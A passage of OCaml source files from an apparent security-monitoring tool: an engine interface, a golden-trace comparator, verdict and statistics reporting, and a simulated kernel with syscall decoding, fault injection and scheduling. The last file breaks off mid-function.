    [share_taint_space] (default [false]): when [true], every session
    interns tag sets into one shared space instead of a fresh one —
    faster on a corpus, but per-run [taint.*] counters become
    warm-dependent and are omitted from traces.

    [mem_pool_cap] (default 16) bounds the guest address-space buffers
    (1 MiB each) recycled between sessions; [0] disables pooling —
    right for single-use engines, where retaining buffers only delays
    their collection. *)
val create :
  ?monitor_config:Harrier.Monitor.config ->
  ?trust:Secpert.Trust.t ->
  ?thresholds:Secpert.Context.thresholds ->
  ?auto_kill:Secpert.Severity.t ->
  ?policy:Secpert.System.policy ->
  ?keep_events:bool ->
  ?share_taint_space:bool ->
  ?mem_pool_cap:int ->
  unit ->
  t

(** [fork engine] is a worker's view of the same engine: it shares the
    compiled policy, trust database, configuration and a snapshot of
    the linked-image cache (linked images are immutable, so workers
    mapping the same text arrays also share their decoded-block tables
    and compiled-instruction slots) but owns fresh mutable pools —
    taint-space pool, guest memory pool, and its own shared taint
    space when the parent enabled one.  A fork is safe to use from
    another domain concurrently with the parent and with other forks,
    and runs sessions byte-identically to the parent (program sets the
    snapshot misses are re-linked deterministically, outside per-run
    counter snapshots). *)
val fork : t -> t

(** [run_outcome engine setup] executes one session against the
    engine's shared artifacts and isolates every session-path failure
    as a typed {!Error.t}: load failures, policy installation errors
    and escaped exceptions become [Error] values instead of aborting
    the process.  [budgets] bounds the run's resources; [fault]
    injects deterministic syscall faults.  Each call increments
    [session.outcome.<kind>].

    [trace] scopes a sink to this session: the engine installs it
    before the first trace line, and flushes + removes it on every exit
    path (including session-path failures, so a crashed run's partial
    trace still reaches the destination).  Without [trace] the ambient
    {!Obs.Trace} sink — whatever the caller installed — is used.

    Reusing the engine across calls reuses its compiled policy and
    linked-image cache (counted under [engine.images.hits]/[.misses],
    outside per-run stats); results are identical to cold runs. *)
val run_outcome :
  t ->
  ?budgets:budgets ->
  ?fault:Osim.Fault.plan ->
  ?trace:Obs.Trace.target ->
  setup ->
  (result, Error.t) Stdlib.result

(** [run engine setup] is {!run_outcome} for callers that treat failure
    as exceptional.
    @raise Error.Error_exn on any session-path failure. *)
val run :
  t ->
  ?budgets:budgets ->
  ?fault:Osim.Fault.plan ->
  ?trace:Obs.Trace.target ->
  setup ->
  result

(** [run_unmonitored setup] executes with a null monitor — the baseline
    for the Section 9 performance comparison.  Shares the engine path's
    world-boot and spawn wiring, minus monitor and policy.
    @raise Error.Error_exn if the main program cannot be loaded. *)
val run_unmonitored : setup -> Osim.Kernel.report
