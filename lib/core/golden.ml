(* Golden-trace comparison with line-level divergence reporting.

   The golden harness in test/ and scripts/check.sh both need the same
   verdict: are two traces byte-identical, and if not, which line
   diverges first?  Keeping the comparator here (rather than inline in
   the tests) makes CI failures actionable — the report names the file,
   the 1-based line number and both lines — and lets other tools reuse
   it. *)

type divergence = {
  line : int;  (* 1-based line number of the first difference *)
  expected : string option;  (* [None] = the golden side ran out of lines *)
  actual : string option;  (* [None] = the live side ran out of lines *)
}

let split_lines s =
  (* split on '\n', dropping the trailing empty field a final newline
     produces, so "a\nb\n" and "a\nb" compare as the same two lines
     except for the byte-level check the callers do separately *)
  match String.split_on_char '\n' s with
  | [] -> []
  | parts ->
    (match List.rev parts with
     | "" :: rest -> List.rev rest
     | _ -> parts)

let first_divergence ~expected ~actual =
  if String.equal expected actual then None
  else begin
    let rec go n e a =
      match e, a with
      | [], [] ->
        (* same lines, different bytes (e.g. trailing newline) *)
        Some { line = n; expected = None; actual = None }
      | [], x :: _ -> Some { line = n; expected = None; actual = Some x }
      | x :: _, [] -> Some { line = n; expected = Some x; actual = None }
      | x :: e', y :: a' ->
        if String.equal x y then go (n + 1) e' a'
        else Some { line = n; expected = Some x; actual = Some y }
    in
    go 1 (split_lines expected) (split_lines actual)
  end

let pp_side ppf = function
  | None -> Fmt.string ppf "<missing>"
  | Some l -> Fmt.pf ppf "%S" l

let report ~name d =
  Fmt.str
    "@[<v>%s: traces diverge at line %d@,  golden: %a@,  live:   %a@]" name
    d.line pp_side d.expected pp_side d.actual

let read_file path =
  let ic = open_in_bin path in
  Fun.protect
    ~finally:(fun () -> close_in_noerr ic)
    (fun () -> really_input_string ic (in_channel_length ic))

let compare_file ~golden ~actual =
  match read_file golden with
  | exception Sys_error msg -> Error (Fmt.str "%s: unreadable (%s)" golden msg)
  | expected ->
    (match first_divergence ~expected ~actual with
     | None -> Ok ()
     | Some d -> Error (report ~name:golden d))
