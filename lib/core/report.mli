(** Rendering session results and deriving verdicts. *)

(** What HTH concluded about a run. *)
type verdict =
  | Benign  (** no warnings at all *)
  | Suspicious of Secpert.Severity.t  (** highest warning severity *)

val verdict : Session.result -> verdict

val equal_verdict : verdict -> verdict -> bool

val verdict_label : verdict -> string

val pp_verdict : Format.formatter -> verdict -> unit

(** [pp_result ~verbose ppf r] prints warnings (deduplicated) and, when
    [verbose], the raw event stream and the OS report. *)
val pp_result : verbose:bool -> Format.formatter -> Session.result -> unit

(** [pp_stats ppf stats] renders a session's observability counters as
    an aligned name/value table, followed by the non-empty histograms
    with mean and p50/p95/p99 percentiles (deterministic sample
    reservoir; wall-clock spans, so the values — not the shape — vary
    run to run). *)
val pp_stats : Format.formatter -> Obs.snapshot -> unit

(** [pp_tier ppf t] renders {!Session.result.tier} — per-tier block
    execution counts (interpreted / compiled / summary-applied /
    deopted). *)
val pp_tier : Format.formatter -> Session.tier_counts -> unit

(** [pp_hot_blocks ppf blocks] renders {!Session.result.hot_blocks}
    as a [pid addr count] table; prints nothing for an empty list. *)
val pp_hot_blocks : Format.formatter -> (int * int * int) list -> unit
