(** Rendering session results and deriving verdicts. *)

(** What HTH concluded about a run. *)
type verdict =
  | Benign  (** no warnings at all *)
  | Suspicious of Secpert.Severity.t  (** highest warning severity *)

val verdict : Session.result -> verdict

val equal_verdict : verdict -> verdict -> bool

val verdict_label : verdict -> string

val pp_verdict : Format.formatter -> verdict -> unit

(** [pp_result ~verbose ppf r] prints warnings (deduplicated) and, when
    [verbose], the raw event stream and the OS report. *)
val pp_result : verbose:bool -> Format.formatter -> Session.result -> unit

(** [pp_stats ppf stats] renders a session's observability counters as
    an aligned name/value table. *)
val pp_stats : Format.formatter -> Obs.snapshot -> unit
