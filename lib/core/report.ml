type verdict =
  | Benign
  | Suspicious of Secpert.Severity.t

let verdict (r : Session.result) =
  match r.max_severity with
  | None -> Benign
  | Some s -> Suspicious s

let equal_verdict a b =
  match a, b with
  | Benign, Benign -> true
  | Suspicious x, Suspicious y -> Secpert.Severity.equal x y
  | (Benign | Suspicious _), _ -> false

let verdict_label = function
  | Benign -> "benign"
  | Suspicious s -> Fmt.str "suspicious[%s]" (Secpert.Severity.label s)

let pp_verdict ppf v = Fmt.string ppf (verdict_label v)

let pp_result ~verbose ppf (r : Session.result) =
  Fmt.pf ppf "@[<v>verdict: %a%s@,warnings: %d (%d distinct)@,@]" pp_verdict
    (verdict r)
    (if r.degraded = [] then "" else " (degraded)")
    (List.length r.warnings) (List.length r.distinct);
  List.iter (fun reason -> Fmt.pf ppf "degraded: %s@," reason) r.degraded;
  List.iter
    (fun w -> Fmt.pf ppf "%s@,@," (Secpert.Warning.to_string w))
    r.distinct;
  if verbose then begin
    Fmt.pf ppf "@,events (%d):@," r.event_count;
    List.iter (fun e -> Fmt.pf ppf "  %a@," Harrier.Events.pp e) r.events;
    Fmt.pf ppf "@,%a@," Osim.Kernel.pp_report r.os_report
  end

let pp_stats ppf (stats : Obs.snapshot) =
  let width =
    List.fold_left (fun w (n, _) -> max w (String.length n)) 0 stats
  in
  Fmt.pf ppf "@[<v>counters (%d):@," (List.length stats);
  List.iter
    (fun (name, v) -> Fmt.pf ppf "  %-*s %d@," width name v)
    stats;
  (match List.filter (fun h -> Obs.Histogram.count h > 0) (Obs.histograms ())
   with
   | [] -> ()
   | hs ->
     let hwidth =
       List.fold_left
         (fun w h -> max w (String.length (Obs.Histogram.name h)))
         0 hs
     in
     Fmt.pf ppf "histograms (%d):@," (List.length hs);
     List.iter
       (fun h ->
         Fmt.pf ppf
           "  %-*s n=%d mean=%.6f p50=%.6f p95=%.6f p99=%.6f max=%.6f@,"
           hwidth (Obs.Histogram.name h) (Obs.Histogram.count h)
           (Obs.Histogram.mean h)
           (Obs.Histogram.percentile h 50.)
           (Obs.Histogram.percentile h 95.)
           (Obs.Histogram.percentile h 99.)
           (Obs.Histogram.maximum h))
       hs);
  Fmt.pf ppf "@]"

let pp_tier ppf (t : Session.tier_counts) =
  Fmt.pf ppf
    "@[<v>tiers:@,  interpreted     %d@,  compiled        %d@,\
    \  summary-applied %d@,  deopted         %d@,@]"
    t.tc_interpreted t.tc_compiled t.tc_summarized t.tc_deopt

let pp_hot_blocks ppf = function
  | [] -> ()
  | blocks ->
    Fmt.pf ppf "@[<v>hot blocks (%d):@," (List.length blocks);
    List.iter
      (fun (pid, addr, count) ->
        Fmt.pf ppf "  pid %d 0x%06x %d@," pid addr count)
      blocks;
    Fmt.pf ppf "@]"
