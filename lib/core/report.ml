type verdict =
  | Benign
  | Suspicious of Secpert.Severity.t

let verdict (r : Session.result) =
  match r.max_severity with
  | None -> Benign
  | Some s -> Suspicious s

let equal_verdict a b =
  match a, b with
  | Benign, Benign -> true
  | Suspicious x, Suspicious y -> Secpert.Severity.equal x y
  | (Benign | Suspicious _), _ -> false

let verdict_label = function
  | Benign -> "benign"
  | Suspicious s -> Fmt.str "suspicious[%s]" (Secpert.Severity.label s)

let pp_verdict ppf v = Fmt.string ppf (verdict_label v)

let pp_result ~verbose ppf (r : Session.result) =
  Fmt.pf ppf "@[<v>verdict: %a%s@,warnings: %d (%d distinct)@,@]" pp_verdict
    (verdict r)
    (if r.degraded = [] then "" else " (degraded)")
    (List.length r.warnings) (List.length r.distinct);
  List.iter (fun reason -> Fmt.pf ppf "degraded: %s@," reason) r.degraded;
  List.iter
    (fun w -> Fmt.pf ppf "%s@,@," (Secpert.Warning.to_string w))
    r.distinct;
  if verbose then begin
    Fmt.pf ppf "@,events (%d):@," r.event_count;
    List.iter (fun e -> Fmt.pf ppf "  %a@," Harrier.Events.pp e) r.events;
    Fmt.pf ppf "@,%a@," Osim.Kernel.pp_report r.os_report
  end

let pp_stats ppf (stats : Obs.snapshot) =
  let width =
    List.fold_left (fun w (n, _) -> max w (String.length n)) 0 stats
  in
  Fmt.pf ppf "@[<v>counters (%d):@," (List.length stats);
  List.iter
    (fun (name, v) -> Fmt.pf ppf "  %-*s %d@," width name v)
    stats;
  Fmt.pf ppf "@]"
