let log_src = Logs.Src.create "hth.kernel" ~doc:"simulated kernel"

module Log = (val Logs.src_log log_src)

type decision = Allow | Kill

type monitor = {
  mutable on_process_start : Process.t -> unit;
  mutable on_image_load : Process.t -> Binary.Image.t -> unit;
  mutable on_pre_syscall : Process.t -> Syscall.t -> decision;
  mutable on_post_syscall : Process.t -> Syscall.t -> result:int -> unit;
  mutable on_fork : parent:Process.t -> child:Process.t -> unit;
}

let null_monitor () =
  { on_process_start = (fun _ -> ());
    on_image_load = (fun _ _ -> ());
    on_pre_syscall = (fun _ _ -> Allow);
    on_post_syscall = (fun _ _ ~result:_ -> ());
    on_fork = (fun ~parent:_ ~child:_ -> ()) }

type t = {
  k_fs : Fs.t;
  k_net : Net.t;
  mutable k_monitor : monitor;
  k_hooks : Vm.Machine.hooks;
  k_pool : Vm.Machine.mem_pool option;
      (* recycled guest address spaces; see [recycle] *)
  k_fault : Fault.state;  (* deterministic fault-injection decisions *)
  quantum : int;
  max_procs : int;
  mutable procs : Process.t list;  (* in spawn order *)
  mutable next_pid : int;
  mutable k_ticks : int;
  mutable input : string list;
  console_buf : Buffer.t;
  mutable clones : int;
  mutable max_live : int;
  mutable last_run_pid : int;  (* previous quantum's pid, for switch count *)
}

let c_syscalls = Obs.Counter.make "osim.syscalls"
let c_switches = Obs.Counter.make "osim.context_switches"
let c_faults = Obs.Counter.make "osim.faults.injected"

let stack_top = 0xFF000

let create ?(quantum = 2000) ?(max_procs = 48) ?monitor ?hooks
    ?(user_input = []) ?(fault = Fault.none) ?mem_pool ~fs ~net () =
  let monitor = match monitor with Some m -> m | None -> null_monitor () in
  let hooks = match hooks with Some h -> h | None -> Vm.Machine.no_hooks () in
  { k_fs = fs; k_net = net; k_monitor = monitor; k_hooks = hooks;
    k_pool = mem_pool;
    k_fault = Fault.start fault; quantum;
    max_procs; procs = []; next_pid = 1; k_ticks = 0; input = user_input;
    console_buf = Buffer.create 256; clones = 0; max_live = 0;
    last_run_pid = -1 }

let fs k = k.k_fs
let net k = k.k_net
let monitor k = k.k_monitor
let hooks k = k.k_hooks
let ticks k = k.k_ticks
let processes k = List.rev k.procs
let live_count k = List.length (List.filter Process.is_live k.procs)
let clone_total k = k.clones
let console k = Buffer.contents k.console_buf

(* Tear-down: return every process's address space to the memory pool.
   Only meaningful when the kernel was created with [mem_pool]; the
   kernel (and its machines) must not be used afterwards. *)
let recycle k =
  match k.k_pool with
  | None -> ()
  | Some pool ->
    List.iter
      (fun (p : Process.t) -> Vm.Machine.recycle_mem pool p.machine)
      k.procs

(* ------------------------------------------------------------------ *)
(* Loader                                                              *)

(* Loader failures are per-process outcomes, never process aborts: both
   carriers ([spawn], [do_exec]) catch this and report a clean error. *)
exception Load_failed of string

(* Collect the needed-closure of [path] in load order and link every
   member (copy + patch its text against the closure's exports).
   [image_of] abstracts where images come from: the world's file system
   on the spawn/exec paths, or a bare program list when pre-linking. *)
let link_with image_of path =
  let rec collect loaded path =
    if List.exists (fun (i : Binary.Image.t) -> String.equal i.path path)
         loaded
    then loaded
    else
      match image_of path with
      | None ->
        raise (Load_failed (Fmt.str "loader: %s: not an executable image" path))
      | Some (img : Binary.Image.t) ->
        let loaded = List.fold_left collect loaded img.needed in
        loaded @ [ img ]
  in
  let images = collect [] path in
  let resolve sym =
    List.find_map
      (fun (i : Binary.Image.t) -> Binary.Symbol.find_export i.exports sym)
      images
  in
  List.map (fun i -> Binary.Image.link i ~resolve) images

let collect_images k path = link_with (Fs.image_of k.k_fs) path

(* Linking is deterministic and linked images are immutable, so the
   result can be cached and shared across sequential sessions that
   spawn the same program set (see [spawn]'s [images] argument). *)
let link_closure available path =
  let image_of p =
    List.find_opt (fun (i : Binary.Image.t) -> String.equal i.path p)
      available
  in
  match link_with image_of path with
  | exception Load_failed msg -> Error msg
  | images -> Ok images

(* The initial stack: NUL-terminated argv/env strings at the top, then
   the vector [argc argv0 .. argvN 0 env0 .. envM 0] that esp points
   at.  The monitor tags [esp, stack_top) USER_INPUT. *)
let setup_stack m ~argv ~env =
  let open Vm.Machine in
  let pos = ref stack_top in
  let place s =
    pos := !pos - (String.length s + 1);
    write_string m !pos (s ^ "\000");
    !pos
  in
  let argv_ptrs = List.map place argv in
  let env_ptrs = List.map place env in
  pos := !pos land lnot 3;
  let vector =
    (List.length argv :: argv_ptrs) @ [ 0 ] @ env_ptrs @ [ 0 ]
  in
  pos := !pos - (4 * List.length vector);
  List.iteri (fun i w -> write_word m (!pos + (4 * i)) w) vector;
  set_reg m ESP !pos

let fresh_machine ?images k path ~argv ~env =
  let images =
    match images with Some l -> l | None -> collect_images k path
  in
  let m = Vm.Machine.create ~hooks:k.k_hooks ?pool:k.k_pool () in
  List.iter (Vm.Machine.map_image m) images;
  setup_stack m ~argv ~env;
  let entry =
    match
      List.find_opt
        (fun (i : Binary.Image.t) -> String.equal i.path path)
        images
    with
    | Some img -> img.entry
    | None ->
      (* collect_images always returns the requested image; defend
         against loader regressions without aborting the process *)
      raise (Load_failed (Fmt.str "loader: %s: no entry image" path))
  in
  Vm.Machine.set_eip m entry;
  m, images

let spawn ?(env = []) ?images k ~path ~argv =
  match fresh_machine ?images k path ~argv ~env with
  | exception Load_failed msg -> Error msg
  | machine, images ->
    let p =
      Process.with_std_fds
        (Process.create ~pid:k.next_pid ~machine ~exe_path:path ~argv)
    in
    k.next_pid <- k.next_pid + 1;
    k.procs <- p :: k.procs;
    k.max_live <- max k.max_live (live_count k);
    k.k_monitor.on_process_start p;
    List.iter (k.k_monitor.on_image_load p) images;
    Ok p

(* ------------------------------------------------------------------ *)
(* Syscall decoding                                                    *)

let resource_of_fd p fd : Syscall.resource =
  match Process.fd p fd with
  | None -> R_unknown
  | Some Std_in -> R_stdin
  | Some Std_out -> R_stdout
  | Some Std_err -> R_stderr
  | Some (Fd_file { path; _ }) -> R_file path
  | Some (Fd_sock sock) ->
    (match sock.state with
     | Connected c ->
       R_sock
         { sr_peer = Some c.peer; sr_local = Some c.local_name;
           sr_server_side = c.server_side }
     | Listening port ->
       R_sock
         { sr_peer = None; sr_local = Some (Fmt.str "LocalHost:%d" port);
           sr_server_side = true }
     | Fresh | Bound _ | Closed ->
       R_sock { sr_peer = None; sr_local = None; sr_server_side = false })

let read_argv m ptr =
  if ptr = 0 then []
  else
    let rec go i acc =
      if i >= 16 then List.rev acc
      else
        let p = Vm.Machine.read_word m (ptr + (4 * i)) in
        if p = 0 then List.rev acc
        else go (i + 1) (Vm.Machine.read_cstring m p :: acc)
    in
    go 0 []

let decode k p nr : Syscall.t =
  let m = p.Process.machine in
  let reg r = Vm.Machine.get_reg m r in
  let ebx = reg EBX and ecx = reg ECX and edx = reg EDX in
  if nr = Abi.sys_exit then Exit { code = ebx }
  else if nr = Abi.sys_fork || nr = Abi.sys_clone then Fork
  else if nr = Abi.sys_read then
    Read { fd = ebx; res = resource_of_fd p ebx; buf = ecx; len = edx }
  else if nr = Abi.sys_write then
    Write { fd = ebx; res = resource_of_fd p ebx; buf = ecx; len = edx }
  else if nr = Abi.sys_open then
    Open { path_addr = ebx; path = Vm.Machine.read_cstring m ebx;
           flags = ecx }
  else if nr = Abi.sys_creat then
    Creat { path_addr = ebx; path = Vm.Machine.read_cstring m ebx }
  else if nr = Abi.sys_close then Close { fd = ebx; res = resource_of_fd p ebx }
  else if nr = Abi.sys_execve then
    Execve { path_addr = ebx; path = Vm.Machine.read_cstring m ebx;
             argv = read_argv m ecx }
  else if nr = Abi.sys_time then Time
  else if nr = Abi.sys_getpid then Getpid
  else if nr = Abi.sys_dup then Dup { fd = ebx; res = resource_of_fd p ebx }
  else if nr = Abi.sys_nanosleep then Nanosleep { duration = ebx }
  else if nr = Abi.sys_brk then Brk { addr = ebx }
  else if nr = Abi.sys_socketcall then begin
    let arg i = Vm.Machine.read_word m (ecx + (4 * i)) in
    let sub = ebx in
    if sub = Abi.sock_socket then Socket
    else if sub = Abi.sock_bind then begin
      let addr_ptr = arg 1 in
      let _ip, port =
        Abi.read_sockaddr (Vm.Machine.read_word m) addr_ptr
      in
      Bind { fd = arg 0; addr_ptr; port }
    end
    else if sub = Abi.sock_connect then begin
      let addr_ptr = arg 1 in
      let ip, port = Abi.read_sockaddr (Vm.Machine.read_word m) addr_ptr in
      Connect
        { fd = arg 0; addr_ptr; ip; port;
          addr_name = Fmt.str "%s:%d" (Net.host_of_ip k.k_net ip) port }
    end
    else if sub = Abi.sock_listen then begin
      let fd = arg 0 in
      let port =
        match Process.fd p fd with
        | Some (Fd_sock { state = Bound port; _ })
        | Some (Fd_sock { state = Listening port; _ }) -> port
        | Some _ | None -> 0
      in
      Listen { fd; port }
    end
    else if sub = Abi.sock_accept then begin
      let fd = arg 0 in
      let port =
        match Process.fd p fd with
        | Some (Fd_sock { state = Listening port; _ })
        | Some (Fd_sock { state = Bound port; _ }) -> port
        | Some _ | None -> 0
      in
      Accept { fd; port; out_addr = arg 1; peer = None }
    end
    else if sub = Abi.sock_send then
      Write { fd = arg 0; res = resource_of_fd p (arg 0); buf = arg 1;
              len = arg 2 }
    else if sub = Abi.sock_recv then
      Read { fd = arg 0; res = resource_of_fd p (arg 0); buf = arg 1;
             len = arg 2 }
    else Unknown { number = nr }
  end
  else Unknown { number = nr }

(* ------------------------------------------------------------------ *)
(* Syscall execution                                                   *)

type exec_result =
  | Done of int
  | Block
  | Exec_ed

let do_fork k (p : Process.t) =
  if live_count k >= k.max_procs then Done (-Abi.eagain)
  else begin
    let child_machine = Vm.Machine.clone ?pool:k.k_pool p.machine in
    Vm.Machine.set_reg child_machine EAX 0;
    let child =
      Process.create ~pid:k.next_pid ~machine:child_machine
        ~exe_path:p.exe_path ~argv:p.argv
    in
    k.next_pid <- k.next_pid + 1;
    Process.copy_fds ~src:p ~dst:child;
    k.procs <- child :: k.procs;
    k.clones <- k.clones + 1;
    k.max_live <- max k.max_live (live_count k);
    k.k_monitor.on_fork ~parent:p ~child;
    Done child.pid
  end

let do_exec k (p : Process.t) path argv =
  if not (Fs.exists k.k_fs path) then Done (-Abi.enoent)
  else
    match Fs.image_of k.k_fs path with
    | None -> Done (-Abi.enoexec)
    | Some _ ->
      (match fresh_machine k path ~argv ~env:[] with
       | exception Load_failed _ -> Done (-Abi.enoexec)
       | machine, images ->
         p.machine <- machine;
         p.exe_path <- path;
         p.argv <- argv;
         k.k_monitor.on_process_start p;
         List.iter (k.k_monitor.on_image_load p) images;
         Exec_ed)

let read_stdin k m buf len =
  match k.input with
  | [] -> Done 0
  | chunk :: rest ->
    let n = min len (String.length chunk) in
    let give = String.sub chunk 0 n in
    let keep = String.sub chunk n (String.length chunk - n) in
    k.input <- (if keep = "" then rest else keep :: rest);
    Vm.Machine.write_string m buf give;
    Done n

let sock_of_fd p fd =
  match Process.fd p fd with
  | Some (Fd_sock s) -> Some s
  | Some _ | None -> None

let execute k (p : Process.t) (sc : Syscall.t) : exec_result =
  let m = p.machine in
  match sc with
  | Exit { code } ->
    p.state <- Exited code;
    Done 0
  | Fork -> do_fork k p
  | Read { fd; buf; len; _ } ->
    (match Process.fd p fd with
     | None | Some Std_out | Some Std_err -> Done (-Abi.ebadf)
     | Some Std_in -> read_stdin k m buf len
     | Some (Fd_file fr) when fr.flags land 3 = Abi.o_wronly ->
       Done (-Abi.ebadf)  (* read on a write-only descriptor *)
     | Some (Fd_file fr) ->
       let file = Fs.ensure k.k_fs fr.path in
       let s = Fs.read_at file ~pos:fr.offset ~len in
       Vm.Machine.write_string m buf s;
       fr.offset <- fr.offset + String.length s;
       Done (String.length s)
     | Some (Fd_sock sock) ->
       (match sock.state with
        | Connected c ->
          let s = Net.guest_recv c len in
          if s = "" then (if c.remote_closed then Done 0 else Block)
          else begin
            Vm.Machine.write_string m buf s;
            Done (String.length s)
          end
        | Fresh | Bound _ | Listening _ | Closed -> Done (-Abi.einval)))
  | Write { fd; buf; len; _ } ->
    let data = Vm.Machine.read_bytes m buf len in
    (match Process.fd p fd with
     | None | Some Std_in -> Done (-Abi.ebadf)
     | Some Std_out | Some Std_err ->
       Buffer.add_string k.console_buf data;
       Done len
     | Some (Fd_file fr) when fr.flags land 3 = Abi.o_rdonly ->
       Done (-Abi.ebadf)  (* write on a read-only descriptor *)
     | Some (Fd_file fr) ->
       let file = Fs.ensure k.k_fs fr.path in
       Fs.write_at file ~pos:fr.offset data;
       fr.offset <- fr.offset + len;
       Done len
     | Some (Fd_sock sock) ->
       (match sock.state with
        | Connected c ->
          Net.guest_send k.k_net c data;
          Done len
        | Fresh | Bound _ | Listening _ | Closed -> Done (-Abi.einval)))
  | Open { path; flags; _ } ->
    let exists = Fs.exists k.k_fs path in
    if (not exists) && flags land Abi.o_creat = 0 then Done (-Abi.enoent)
    else begin
      let file = Fs.ensure k.k_fs path in
      if flags land Abi.o_trunc <> 0 then Fs.truncate file;
      let offset =
        if flags land Abi.o_append <> 0 then Fs.size file else 0
      in
      Done (Process.alloc_fd p (Fd_file { path; offset; flags }))
    end
  | Creat { path; _ } ->
    let file = Fs.ensure k.k_fs path in
    Fs.truncate file;
    Done
      (Process.alloc_fd p
         (Fd_file { path; offset = 0; flags = Abi.o_wronly }))
  | Close { fd; _ } ->
    (match sock_of_fd p fd with
     | Some sock -> sock.state <- Closed
     | None -> ());
    if Process.close_fd p fd then Done 0 else Done (-Abi.ebadf)
  | Execve { path; argv; _ } -> do_exec k p path argv
  | Time -> Done (k.k_ticks land 0x3FFFFFFF)
  | Getpid -> Done p.pid
  | Dup { fd; _ } ->
    (match Process.fd p fd with
     | None -> Done (-Abi.ebadf)
     | Some (Fd_file { path; offset; flags }) ->
       Done (Process.alloc_fd p (Fd_file { path; offset; flags }))
     | Some kind -> Done (Process.alloc_fd p kind))
  | Nanosleep { duration } ->
    p.state <- Sleeping (k.k_ticks + max 1 duration);
    Done 0
  | Brk { addr } ->
    if addr = 0 then Done p.brk
    else if addr < Process.initial_brk || addr >= stack_top - 0x1000 then
      Done p.brk  (* refused: return the unchanged break, as Linux does *)
    else begin
      p.brk <- addr;
      Done addr
    end
  | Socket ->
    let s = Net.new_socket k.k_net in
    Done (Process.alloc_fd p (Fd_sock s))
  | Bind { fd; port; _ } ->
    (match sock_of_fd p fd with
     | Some sock ->
       sock.state <- Bound port;
       Done 0
     | None -> Done (-Abi.ebadf))
  | Listen { fd; _ } ->
    (match sock_of_fd p fd with
     | Some ({ state = Bound port; _ } as sock) ->
       sock.state <- Listening port;
       Done 0
     | Some { state = Listening _; _ } -> Done 0
     | Some _ -> Done (-Abi.einval)
     | None -> Done (-Abi.ebadf))
  | Connect { fd; ip; port; _ } ->
    (match sock_of_fd p fd with
     | Some sock ->
       (match Net.connect k.k_net sock ~ip ~port with
        | Some _ -> Done 0
        | None -> Done (-Abi.econnrefused))
     | None -> Done (-Abi.ebadf))
  | Accept acc ->
    (match sock_of_fd p acc.fd with
     | Some sock ->
       (match Net.accept k.k_net sock with
        | Some conn ->
          let ns = Net.new_socket k.k_net in
          ns.state <- Connected conn;
          acc.peer <- Some conn.peer;
          if acc.out_addr <> 0 then begin
            let ip =
              match String.index_opt conn.peer ':' with
              | Some i ->
                (match Net.resolve k.k_net (String.sub conn.peer 0 i) with
                 | Some ip -> ip
                 | None -> 0)
              | None -> 0
            in
            Abi.write_sockaddr (Vm.Machine.write_byte m) acc.out_addr ~ip
              ~port:acc.port
          end;
          Done (Process.alloc_fd p (Fd_sock ns))
        | None -> Block)
     | None -> Done (-Abi.ebadf))
  | Unknown _ -> Done (-38 (* ENOSYS *))

(* ------------------------------------------------------------------ *)
(* Fault injection                                                     *)

(* The resource identity a fault plan matches against, plus whether it
   is a socket (seeded plans draw socket faults for those). *)
let fault_res (sc : Syscall.t) =
  let of_res : Syscall.resource -> string * bool = function
    | R_stdin -> "stdin", false
    | R_stdout -> "stdout", false
    | R_stderr -> "stderr", false
    | R_file path -> path, false
    | R_sock { sr_peer = Some peer; _ } -> peer, true
    | R_sock { sr_local = Some local; _ } -> local, true
    | R_sock _ -> "sock", true
    | R_unknown -> "?", false
  in
  match sc with
  | Open { path; _ } | Creat { path; _ } | Execve { path; _ } -> path, false
  | Read { res; _ } | Write { res; _ } | Close { res; _ } | Dup { res; _ } ->
    of_res res
  | Connect { addr_name; _ } -> addr_name, true
  | Bind { port; _ } | Listen { port; _ } | Accept { port; _ } ->
    Fmt.str "LocalHost:%d" port, true
  | Exit _ | Fork | Time | Getpid | Nanosleep _ | Brk _ | Socket
  | Unknown _ -> "", false

(* A short read/write delivers at least one byte but at most half the
   request — deterministic, so faulted traces replay byte-identically. *)
let shorten (sc : Syscall.t) : Syscall.t =
  match sc with
  | Read { fd; res; buf; len } when len > 1 ->
    Read { fd; res; buf; len = max 1 (len / 2) }
  | Write { fd; res; buf; len } when len > 1 ->
    Write { fd; res; buf; len = max 1 (len / 2) }
  | _ -> sc

(* ------------------------------------------------------------------ *)
(* Scheduler                                                           *)

let handle_syscall k (p : Process.t) ~retry =
  let m = p.machine in
  let nr = Vm.Machine.get_reg m EAX in
  match decode k p nr with
  | exception Vm.Machine.Fault_exn f ->
    p.state <- Killed (Fmt.str "syscall decode fault: %a" Vm.Machine.pp_fault f)
  | sc0 ->
    (* consult the fault plan once per attempt (never on the retry of a
       blocked call, so a stall is transient rather than a livelock) *)
    let fault =
      if retry || not (Fault.active k.k_fault) then None
      else begin
        let res, sock = fault_res sc0 in
        Fault.decide k.k_fault ~call:(Syscall.name sc0) ~res ~sock
      end
    in
    let sc = match fault with Some Fault.Short -> shorten sc0 | _ -> sc0 in
    let note_injection f =
      Obs.Counter.incr c_faults;
      Obs.Counter.incr
        (Obs.Counter.labeled "osim.faults.injected" (Fault.kind_name f));
      if Obs.Trace.enabled () then begin
        let res, _ = fault_res sc in
        Obs.Trace.emit "fault"
          [ "call", Obs.Str (Syscall.name sc); "res", Obs.Str res;
            "kind", Obs.Str (Fault.kind_name f); "pid", Obs.Int p.pid;
            "tick", Obs.Int k.k_ticks ]
      end
    in
    let proceed =
      if retry then true
      else
        match k.k_monitor.on_pre_syscall p sc with
        | Allow -> true
        | Kill ->
          p.state <- Killed "terminated by security policy";
          false
    in
    if proceed then begin
      if p.state = Waiting_io then p.state <- Runnable;
      Log.debug (fun f ->
          f "[%d] pid %d %a" k.k_ticks p.pid Syscall.pp sc);
      if not retry then begin
        Obs.Counter.incr c_syscalls;
        Obs.Counter.incr (Obs.Counter.labeled "osim.syscalls" (Syscall.name sc))
      end;
      let trace_done result =
        if Obs.Trace.enabled () then
          Obs.Trace.emit "syscall"
            [ "call", Obs.Str (Syscall.name sc); "pid", Obs.Int p.pid;
              "tick", Obs.Int k.k_ticks; "result", Obs.Int result ]
      in
      let run_call () =
        match fault with
        | None -> execute k p sc
        | Some f ->
          note_injection f;
          (match f with
           | Fault.Errno e -> Done (-e)
           | Fault.Reset -> Done (-Abi.econnreset)
           | Fault.Stall -> Block
           | Fault.Short -> execute k p sc)
      in
      match run_call () with
      | exception Vm.Machine.Fault_exn f ->
        p.state <- Killed (Fmt.str "syscall fault: %a" Vm.Machine.pp_fault f)
      | Done r ->
        Vm.Machine.set_reg m EAX r;
        p.pending <- None;
        trace_done r;
        k.k_monitor.on_post_syscall p sc ~result:r
      | Block ->
        p.state <- Waiting_io;
        p.pending <- Some nr
